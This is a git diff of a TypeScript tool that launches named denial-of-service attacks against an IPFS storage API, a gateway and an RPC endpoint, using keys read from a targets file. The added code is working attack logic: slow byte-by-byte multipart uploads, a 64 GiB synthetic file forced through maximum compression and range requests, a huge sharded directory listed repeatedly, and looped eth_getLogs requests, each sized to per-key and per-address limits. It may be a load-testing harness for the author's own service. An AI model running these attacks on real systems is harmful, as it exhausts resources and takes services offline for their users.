@@ -1,6 +1,9 @@
 import { readFileSync } from 'node:fs';
 import { connect, type Socket } from 'node:net';
 
+import { encode, type PBLink, type PBNode, prepare } from '@ipld/dag-pb';
+import { UnixFS } from 'ipfs-unixfs';
+import { CID } from 'multiformats/cid';
 import { WebSocket } from 'ws';
 
 /*
@@ -16,6 +19,8 @@ type Targets = {
   readonly gateway: string;
   readonly keys: readonly { readonly key: string; readonly secret: string }[];
 };
+
+type Owner = Targets['keys'][number];
 
 const [attack, file] = process.argv.slice(2) as [string, string];
 const targets = JSON.parse(readFileSync(file, 'utf8')) as Targets;
@@ -122,21 +127,32 @@ function fromNobody(bytes: string, closes: boolean): void {
     }, count / 2);
 }
 
-const basic = ({ key, secret }: Targets['keys'][number]) =>
-  `authorization: Basic ${Buffer.from(`${key}:${secret}`).toString('base64')}`;
+const basic = ({ key, secret }: Owner) => `authorization: Basic ${Buffer.from(`${key}:${secret}`).toString('base64')}`;
+
+const GET_LOGS = request('eth_getLogs', '[]');
 
 /** Asks for long answers with one key, and reads none of them. */
 function unreadAnswers(key: string): void {
-  if (key !== keys[0]) return;
-  const body = request('eth_getLogs', '[]');
   for (let count = 0; count < 60; count++)
     keepOpen((socket) => {
-      socket.write(headOf(key, body.length) + body);
+      socket.write(headOf(key, GET_LOGS.length) + GET_LOGS);
+    });
+}
+
+/** Asks for long answers with one key, reads each, and asks for the next one. */
+function longAnswers(key: string): void {
+  const whole = headOf(key, GET_LOGS.length) + GET_LOGS;
+  for (let count = 0; count < 60; count++)
+    keepOpen((socket) => {
+      socket.on('data', (piece) => {
+        if (piece.at(-1) === '}'.charCodeAt(0)) socket.write(whole);
+      });
+      socket.write(whole);
     });
 }
 
 /** Puts a DAG of many blocks, and returns its root. */
-async function putDag(owner: Targets['keys'][number]): Promise<string> {
+async function putDag(owner: Owner): Promise<string> {
   let root = '';
   for (let depth = 0; depth < 200; depth++) {
     const form = new FormData();
@@ -154,31 +170,127 @@ async function putDag(owner: Targets['keys'][number]): Promise<string> {
   return root;
 }
 
-/** Walks a DAG again and again with one key: 32 requests at once, each of which visits 50,000 blocks. */
-async function storageWalks(key: string): Promise<void> {
-  const [owner] = targets.keys;
-  if (owner === undefined || key !== owner.key) return;
-  const root = await putDag(owner);
-  const walk = `POST /api/v0/pin/add?progress=true${`&arg=${root}`.repeat(200)} HTTP/1.1\r\nhost: x\r\n${basic(owner)}\r\ncontent-length: 0\r\n\r\n`;
-  for (let count = 0; count < 32; count++)
+/** Stores a node of a file or directory, and returns its CID. */
+async function putNode(owner: Owner, node: PBNode): Promise<CID> {
+  const form = new FormData();
+  form.append('data', new Blob([encode(prepare(node)) as Uint8Array<ArrayBuffer>]));
+  const authorization = basic(owner).replace('authorization: ', '');
+  const url = `${targets.storage}/api/v0/block/put?cid-codec=dag-pb`;
+  const response = await fetch(url, { method: 'POST', body: form, headers: { authorization } });
+  return CID.parse(((await response.json()) as { Key: string }).Key);
+}
+
+/** A file of the same block of 256 KiB over and over: 64 GiB. */
+async function putLargeFile(owner: Owner): Promise<CID> {
+  let size = 256 << 10;
+  const leaf = new UnixFS({ type: 'file', data: new Uint8Array(size) });
+  let cid = await putNode(owner, { Data: leaf.marshal(), Links: [] });
+  for (let level = 0; level < 6; level++) {
+    const sizes = Array.from({ length: 8 }, () => BigInt(size));
+    const Data = new UnixFS({ type: 'file', blockSizes: sizes }).marshal();
+    const Links = sizes.map(() => ({ Hash: cid, Name: '', Tsize: size }));
+    size *= 8;
+    cid = await putNode(owner, { Data, Links });
+  }
+  return cid;
+}
+
+/** A directory of 256 shards with 256 entries each. */
+async function putShards(owner: Owner): Promise<CID> {
+  const Data = new UnixFS({ type: 'hamt-sharded-directory', fanout: 256n, hashType: 0x22n }).marshal();
+  const label = (index: number) => index.toString(16).toUpperCase().padStart(2, '0');
+  const all = Array.from({ length: 256 }, (_, index) => label(index));
+  const file = await putNode(owner, { Data: new UnixFS({ type: 'file' }).marshal(), Links: [] });
+  const Links: PBLink[] = [];
+  for (const Name of all) {
+    const below = all.map((each) => ({ Name: `${each}${Name}${each}`, Hash: file, Tsize: 1 }));
+    Links.push({ Name, Hash: await putNode(owner, { Data, Links: below }), Tsize: 1 });
+  }
+  return putNode(owner, { Data, Links });
+}
+
+/** Sends the same to a listener on so many connections at once, and reads what comes. */
+function onConnections(count: number, url: string, bytes: string): void {
+  for (let opened = 0; opened < count; opened++)
     keepOpen((socket) => {
-      socket.resume().write(walk.repeat(10));
+      socket.resume().write(bytes);
+    }, new URL(url));
+}
+
+const command = (owner: Owner, path: string) =>
+  `POST /api/v0/${path} HTTP/1.1\r\nhost: x\r\n${basic(owner)}\r\ncontent-length: 0\r\n\r\n`;
+
+/** As many requests as one key may make at once. */
+const KEY_REQUESTS = 32;
+/** As many as one address may make at the gateway. */
+const ADDRESS_REQUESTS = 16;
+
+/** Walks a DAG again and again with one key; each request visits 50,000 blocks. */
+async function storageWalks(owner: Owner): Promise<void> {
+  const root = await putDag(owner);
+  const walk = command(owner, `pin/add?progress=true${`&arg=${root}`.repeat(200)}`);
+  onConnections(KEY_REQUESTS, targets.storage, walk.repeat(10));
+}
+
+/** Asks the gateway for CAR files from one address. */
+async function gatewayFiles(owner: Owner): Promise<void> {
+  const ask = plainGet(`/ipfs/${await putDag(owner)}?format=car&car-dups=y`);
+  onConnections(ADDRESS_REQUESTS, targets.gateway, ask.repeat(100));
+}
+
+/** Sends multipart bodies of one key byte by byte. */
+function slowUploads(owner: Owner): void {
+  const head = command(owner, 'add').replace(
+    'content-length: 0',
+    'content-type: multipart/form-data; boundary=x\r\ntransfer-encoding: chunked',
+  );
+  const part = '--x\r\ncontent-disposition: form-data; name="f"; filename="f"\r\n\r\n\r\n';
+  for (let count = 0; count < KEY_REQUESTS; count++)
+    keepOpen((socket) => {
+      socket.resume().write(head);
+      let at = 0;
+      const timer = setInterval(() => {
+        // A hundred chunks of one byte in each packet.
+        const bytes = Array.from({ length: 100 }, () => `1\r\n${part.charAt(at++ % part.length)}\r\n`);
+        socket.write(bytes.join(''));
+      }, 10);
+      socket.on('close', () => {
+        clearInterval(timer);
+      });
     }, new URL(targets.storage));
 }
 
-/** Asks the gateway for CAR files from one address: 16 at once. */
-async function gatewayFiles(key: string): Promise<void> {
-  const [owner] = targets.keys;
-  if (owner === undefined || key !== owner.key) return;
-  const ask = plainGet(`/ipfs/${await putDag(owner)}?format=car&car-dups=y`);
-  for (let count = 0; count < 16; count++)
-    keepOpen((socket) => {
-      socket.resume().write(ask.repeat(100));
-    }, new URL(targets.gateway));
+/** Has files without an end compressed for one key. */
+async function compressedFiles(owner: Owner): Promise<void> {
+  const cid = (await putLargeFile(owner)).toString();
+  onConnections(
+    KEY_REQUESTS,
+    targets.storage,
+    command(owner, `get?compress=true&compression-level=9&arg=${cid}`).repeat(10),
+  );
+}
+
+/** Has one key list a sharded directory. */
+async function shardedDirectories(owner: Owner): Promise<void> {
+  const cid = (await putShards(owner)).toString();
+  onConnections(KEY_REQUESTS, targets.storage, command(owner, `ls?arg=${cid}`).repeat(100));
+}
+
+/** Asks the gateway for ranges of a large file from one address. */
+async function byteRanges(owner: Owner): Promise<void> {
+  const cid = (await putLargeFile(owner)).toString();
+  const ask = plainGet(`/ipfs/${cid}?format=car&car-dups=y&entity-bytes=1000000000:1100000000`);
+  onConnections(ADDRESS_REQUESTS, targets.gateway, ask.repeat(10));
 }
 
 const once = (start: () => void) => (key: string) => {
   if (key === keys[0]) start();
+};
+
+/** An attack of one key, or of its address. */
+const alone = (start: (owner: Owner) => void | Promise<void>) => async (key: string) => {
+  const [owner] = targets.keys;
+  if (owner !== undefined && key === owner.key) await start(owner);
 };
 
 const ATTACKS: Readonly<Record<string, (key: string) => void | Promise<void>>> = {
@@ -195,9 +307,18 @@ const ATTACKS: Readonly<Record<string, (key: string) => void | Promise<void>>> =
   'pipelined offers': once(() => {
     fromNobody(offer('/livez').repeat(2), true);
   }),
-  'unread answers': unreadAnswers,
-  'storage walks': storageWalks,
-  'gateway files': gatewayFiles,
+  'unread answers': alone(({ key }) => {
+    unreadAnswers(key);
+  }),
+  'long answers': alone(({ key }) => {
+    longAnswers(key);
+  }),
+  'storage walks': alone(storageWalks),
+  'gateway files': alone(gatewayFiles),
+  'slow uploads': alone(slowUploads),
+  'compressed files': alone(compressedFiles),
+  'sharded directories': alone(shardedDirectories),
+  'byte ranges': alone(byteRanges),
 };
 
 const start = ATTACKS[attack];
